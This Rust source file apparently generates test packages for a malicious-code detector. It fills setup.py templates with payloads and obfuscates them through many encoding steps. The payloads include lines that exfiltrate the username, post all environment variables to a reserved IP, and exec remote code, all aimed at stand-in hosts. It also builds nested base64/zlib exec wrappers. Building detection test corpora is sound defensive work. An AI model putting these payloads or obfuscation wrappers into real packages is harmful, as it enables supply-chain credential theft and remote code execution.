//! Fills the slots of a case's text: names, and payloads encoded in the way the case asks for.
//!
//! A slot is `«…»`. `«pkg»` is the import name, `«name»` the project, `«version»` its version,
//! `«setup»` a plain call of `setup`. Everything else is a payload and what happens to it, from left
//! to right: `«mark|zlib|b64»`. A payload is one of the names below, or a text in `'…'`.

use std::fmt::Write;

use crate::encode;
use crate::marshal;

/// What the slots of one package are filled with.
pub(crate) struct Names<'a> {
    /// The project's name.
    pub(crate) name: &'a str,
    /// Its version.
    pub(crate) version: &'a str,
}

/// Fills every slot.
pub(crate) fn fill(text: &str, names: &Names<'_>) -> String {
    let mut parts = text.split('«');
    let mut filled = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let (slot, rest) = part.split_once('»').expect("every slot is closed");
        filled += &fill_slot(slot, names);
        filled += rest;
    }
    filled
}

fn fill_slot(slot: &str, names: &Names<'_>) -> String {
    match slot {
        "pkg" => names.name.replace('-', "_"),
        "name" => names.name.to_owned(),
        "version" => names.version.to_owned(),
        "setup" => fill(SETUP, names),
        _ => {
            let (name, steps) = split(slot);
            let steps = steps.split('|').filter(|step| !step.is_empty());
            let bytes = steps.fold(payload(name), |bytes, step| take(step, bytes));
            String::from_utf8(bytes).unwrap_or_else(|_| panic!("«{slot}» does not end in text"))
        }
    }
}

/// The payload and the steps; a quoted payload may hold what separates steps.
fn split(slot: &str) -> (&str, &str) {
    let from = if slot.starts_with('\'') {
        slot.rfind('\'').unwrap_or(0)
    } else {
        0
    };
    let end = slot[from..]
        .find('|')
        .map_or(slot.len(), |place| from + place);
    slot.split_at(end)
}

const SETUP: &str = r#"setup(
    name="«name»",
    version="«version»",
    description="Small helpers for everyday work",
    author="A. Nother",
    packages=find_packages(),
    python_requires=">=3.7",
)"#;

/// What the hidden code is. None of it does harm, and none of it ever runs.
fn payload(name: &str) -> Vec<u8> {
    if let Some(text) = name.strip_prefix('\'') {
        let text = text
            .strip_suffix('\'')
            .expect("a payload's quotes are closed");
        return text.replace("\\n", "\n").into_bytes();
    }
    match name {
        "mark" => b"print('inert marker')\n".to_vec(),
        "beacon" => BEACON.into(),
        "shell" => b"import os\nos.system('echo inert')\n".to_vec(),
        "fetch" => FETCH.into(),
        "steal" => STEAL.into(),
        "code" => marshal::code(marshal::PRINTS),
        "code-shell" => marshal::code(marshal::SHELL),
        "code-fetch" => marshal::code(marshal::FETCHES),
        _ => panic!("no payload is called {name:?}"),
    }
}

const BEACON: &str = "\
import getpass, socket, urllib.request
who = getpass.getuser() + '@' + socket.gethostname()
urllib.request.urlopen('http://collect.example.invalid/b', data=who.encode(), timeout=3)
";

const FETCH: &str = "\
import urllib.request
exec(urllib.request.urlopen('https://stage.example.invalid/two.py').read())
";

const STEAL: &str = "\
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request('https://192.0.2.14/e', data=body))
";

/// One step of a pipeline.
fn take(step: &str, bytes: Vec<u8>) -> Vec<u8> {
    let (step, option) = step.split_once(':').unwrap_or((step, ""));
    let number = || option.parse::<usize>().expect("the step takes a number");
    match step {
        "b64" => encode::base64(&bytes).into(),
        "b64url" => encode::base64_url(&bytes).into(),
        "b32" => encode::base32(&bytes).into(),
        "b85" => encode::base85(&bytes).into(),
        "a85" => encode::ascii85(&bytes).into(),
        "hex" => encode::hex(&bytes).into(),
        "utf16" => bytes.into_iter().flat_map(|byte| [byte, 0]).collect(),
        "upper" => bytes.to_ascii_uppercase(),
        "rot13" => encode::rot13(&bytes),
        "rev" => bytes.into_iter().rev().collect(),
        "zlib" => encode::zlib(&bytes),
        "gzip" => encode::gzip(&bytes),
        "deflate" => encode::deflate(&bytes),
        "bz2" => encode::bzip2(&bytes),
        "xz" => encode::xz(&bytes),
        "xor" => match option.parse::<u8>() {
            Ok(key) => encode::xor(&bytes, &[key]),
            Err(_) => encode::xor(&bytes, option.as_bytes()),
        },
        "add" => {
            let by = u8::try_from(number()).expect("the step takes a byte");
            bytes
                .into_iter()
                .map(|byte| byte.wrapping_add(by))
                .collect()
        }
        "swap" => bytes
            .chunks(2)
            .flat_map(|pair| pair.iter().rev().copied())
            .collect(),
        "nest" => nest(number(), bytes),
        "under" => under(number(), bytes),
        "lit" => literal(&bytes).into(),
        "str" => literal(&bytes)[1..].into(),
        "ints" => list(&bytes, ", ", |byte| byte.to_string()),
        "hexints" => list(&bytes, ", ", |byte| format!("0x{byte:02x}")),
        "words" => list(&bytes, " ", |byte| byte.to_string()),
        "chrs" => list(&bytes, "+", |byte| format!("chr({byte})")),
        "esc" => list(&bytes, "", |byte| format!("\\x{byte:02x}")),
        "octal" => list(&bytes, "", |byte| format!("\\{byte:03o}")),
        "uni" => list(&bytes, "", |byte| format!("\\u{byte:04x}")),
        "bits" => list(&bytes, "", |byte| format!("{byte:08b}")),
        "split" => pieces(&bytes, number(), ", "),
        "plus" => pieces(&bytes, number(), " + "),
        "lines" => pieces(&bytes, number(), "\n    "),
        "double" => [bytes.clone(), bytes].concat(),
        _ => panic!("no step is called {step:?}"),
    }
}

/// As many layers of "decode the reversed text and run it" around the code.
fn nest(layers: usize, bytes: Vec<u8>) -> Vec<u8> {
    let wrap = |code: Vec<u8>, _| {
        let text: String = encode::base64(&encode::zlib(&code)).chars().rev().collect();
        format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{text}'[::-1])))\n")
            .into_bytes()
    };
    (0..layers).fold(bytes, wrap)
}

/// The same with a function `_` that the case defines.
fn under(layers: usize, bytes: Vec<u8>) -> Vec<u8> {
    let wrap = |code: Vec<u8>, _| {
        let text: String = encode::base64(&encode::zlib(&code)).chars().rev().collect();
        format!("exec((_)(b'{text}'))").into_bytes()
    };
    (0..layers).fold(bytes, wrap)
}

fn list(bytes: &[u8], between: &str, show: impl Fn(u8) -> String) -> Vec<u8> {
    let shown: Vec<_> = bytes.iter().map(|byte| show(*byte)).collect();
    shown.join(between).into()
}

/// The text in quoted pieces of as many characters.
fn pieces(bytes: &[u8], size: usize, between: &str) -> Vec<u8> {
    let pieces: Vec<_> = bytes
        .chunks(size)
        .map(|piece| literal(piece)[1..].to_owned())
        .collect();
    pieces.join(between).into()
}

/// `b'…'`
fn literal(bytes: &[u8]) -> String {
    let mut text = String::from("b'");
    for byte in bytes {
        match byte {
            b'\n' => text += "\\n",
            b'\'' | b'\\' => {
                text.push('\\');
                text.push((*byte).into());
            }
            b' '..=b'~' => text.push((*byte).into()),
            _ => write!(text, "\\x{byte:02x}").expect("a string takes every write"),
        }
    }
    text + "'"
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled(text: &str) -> String {
        fill(
            text,
            &Names {
                name: "two-words",
                version: "1.0",
            },
        )
    }

    #[test]
    fn slots_become_names_and_encoded_payloads() {
        assert_eq!(
            filled("import «pkg» # «name»"),
            "import two_words # two-words"
        );
        assert_eq!(filled("f('«'ab'|rev|b64»')"), "f('YmE=')");
        assert_eq!(filled("[«'ab'|ints»] «'a\\nb'|lit»"), "[97, 98] b'a\\nb'");
        assert_eq!(filled("«'abc'|plus:2»"), "'ab' + 'c'");
        assert_eq!(filled("«'a'|chrs» «'a'|esc»"), "chr(97) \\x61");
    }

    #[test]
    #[should_panic(expected = "does not end in text")]
    fn a_payload_that_ends_in_bytes_is_a_mistake() {
        filled("«code»");
    }
}
